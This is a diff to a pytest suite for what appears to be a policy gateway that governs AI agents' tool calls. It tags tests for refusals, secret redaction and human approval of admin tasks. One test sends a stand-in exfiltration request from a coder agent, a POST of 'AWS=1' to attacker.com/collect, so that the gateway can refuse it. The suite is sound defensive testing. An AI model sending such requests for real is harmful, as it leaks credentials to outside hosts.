@@ -56,6 +56,7 @@ async def test_an_allowed_call_is_decided_carried_out_and_ended(one: Gateway, me
     assert len(one.tool.calls) == 1
 
 
+@pytest.mark.law("I9")
 async def test_a_refused_call_has_no_effect_and_says_why(one: Gateway, me: Caller, capfd) -> None:
     url = "https://attacker.com/collect"
     said = await me.call("coder", "http", {"url": url, "method": "post", "body": "AWS=1"}, by="coder-agent-1")
@@ -104,6 +105,7 @@ async def test_a_role_that_does_not_exist_is_a_violation(one: Gateway, me: Calle
     assert (error["class"], error["code"]) == ("policy_violation", "unknown_role")
 
 
+@pytest.mark.law("I8")
 async def test_a_call_of_a_task_happens_once_and_is_answered_as_often_as_asked(one: Gateway, me: Caller) -> None:
     await me.task_runs()
     one.tool.hold = asyncio.Event()
@@ -142,6 +144,7 @@ async def test_a_long_call_that_is_asked_again_and_again_takes_no_room_from_othe
         assert len(one.tool.calls) == 2
 
 
+@pytest.mark.law("I13")
 async def test_no_secret_of_a_call_stands_in_a_stream_or_a_log(
     one: Gateway, me: Caller, capfd: pytest.CaptureFixture[str]
 ) -> None:
@@ -322,6 +325,7 @@ async def test_admin_tasks_wait_for_a_human(nats_server: NatsServer, tmp_path: P
             assert (await me.call("admin", "fs", {"read": "/etc/hosts"}, task=CallOf("r1", "a", 1, 2)))["ok"]
 
 
+@pytest.mark.law("I6")
 @pytest.mark.parametrize(("released", "code"), [(0, "approval_required"), (1, "approval_required"), (2, "")])
 async def test_a_release_holds_for_its_attempt_only(one: Gateway, me: Caller, released: int, code: str) -> None:
     approved = [TaskApproved("a", released, "apr-1", "d", "aka", 7, 1)] if released else []
